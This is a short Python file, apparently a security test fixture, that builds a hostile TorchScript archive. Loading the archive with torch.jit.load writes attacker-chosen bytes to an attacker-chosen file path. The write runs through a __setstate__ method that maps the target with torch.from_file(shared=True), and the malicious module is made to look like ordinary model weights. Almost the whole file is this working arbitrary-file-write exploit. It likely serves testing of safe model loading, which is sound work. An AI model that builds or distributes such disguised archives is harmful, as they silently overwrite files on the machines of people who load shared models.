"""A hostile TorchScript archive: loading it with ``torch.jit.load`` writes a file of the attacker's choice.

Its ``__setstate__`` (TorchScript code inside the archive, run by ``torch.jit.load``) maps ``target`` with
``torch.from_file(..., shared=True)`` and copies bytes into it. The tensors look like ordinary weights.
"""

import warnings
from pathlib import Path

import torch

PAYLOAD = b"pwned\n"


class _Evil(torch.nn.Module):
    weight: torch.Tensor

    def __init__(self, target: str) -> None:
        super().__init__()
        self.weight = torch.nn.Parameter(torch.ones(2))
        self.target = target

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return (self.weight, self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.weight = state[0]
        self.target = state[1]
        written = torch.from_file(self.target, True, 6, dtype=torch.uint8)
        written.copy_(torch.tensor([112, 119, 110, 101, 100, 10], dtype=torch.uint8))
        self.training = state[2] and bool(written[0] == 112)  # uses the write, so the compiler keeps it

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.weight


def write_evil_archive(path: Path, target: Path) -> Path:
    """Save the archive at ``path``; loading it through TorchScript would create ``target``."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", FutureWarning)  # torch.jit.script is deprecated, still works
        torch.jit.script(_Evil(str(target))).save(str(path))
    return path
